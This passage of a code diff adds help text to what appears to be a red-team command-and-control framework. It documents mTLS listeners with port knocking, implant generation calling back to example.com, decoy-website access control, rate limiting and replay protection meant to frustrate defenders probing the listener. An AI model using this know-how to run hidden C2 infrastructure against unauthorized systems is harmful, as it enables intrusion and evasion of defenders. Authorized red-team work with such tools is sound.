+dropped. Implants behind a NAT that maps udp and tcp to different public addresses can't connect to a --spa listener.
+
+[[.Bold]]Examples:[[.Normal]]
+	mtls --lport 8888 --spa
+	generate --mtls example.com:8888 --spa
+	mtls --lport 8888 --spa --knock-ports 7001,7002,7003
+	generate --mtls "example.com:8888?knock=7001:7002:7003" --spa
+`
+
+	httpHelp = `[[.Bold]]Command:[[.Normal]] http [flags]
+[[.Bold]]About:[[.Normal]] Start an HTTP listener.
+
+[[.Bold]][[.Underline]]Access Control[[.Normal]]
+Clients denied by --allow-cidr/--deny-cidr or --allow-country/--deny-country never reach the C2 handlers,
+they are served the --website content (or a 404) exactly like a request that does not match the C2 profile.
+Deny rules take precedence, if any allow rules are given a client must match at least one of them.
+
+--rate-limit caps the requests per minute from one client, a client that exceeds it is banned (decoy content
+only) for the --ban duration. Every request counts towards the limit, including implant traffic, so set it
+well above your implants' poll rate. Behind a redirector use --trust-proxy-headers, otherwise the redirector
+itself is rate limited.
+
+Country rules require a geoip database, a MaxMind DB (e.g. GeoLite2-Country.mmdb) or a CSV of
+"first ip,last ip,country code" ranges such as db-ip.com's free country database, set "country_database"
+in the "geoip" section of the server config (configs/server.json).
+
+[[.Bold]][[.Underline]]Replay Protection[[.Normal]]
+Implants timestamp their key exchanges (except those generated before key exchanges could be selected with
+generate --kex), the listener rejects key exchanges timestamped further than --replay-window from the server's
+clock, and requests that reuse a nonce within a session. Key exchanges are remembered across server restarts until they're outside of the window (forever
+for older implants), so captured implant traffic can't be replayed to probe the listener or spoof a session.
+Implants correct for clock skew using the server's Date header, use --replay-window 0 to disable the checks.
+DNS implants and implants behind a pivot have no clock skew source, they're checked against their own clock
+(pivots use the window of the listener their traffic arrives on), so widen the window if their clocks are off.
+
+[[.Bold]][[.Underline]]Examples:[[.Normal]]
+
+	http --domain example.com
+	http --website decoy --deny-cidr 203.0.113.0/24,198.51.100.7 --rate-limit 60 --ban 1h
+`
 )
 
 const (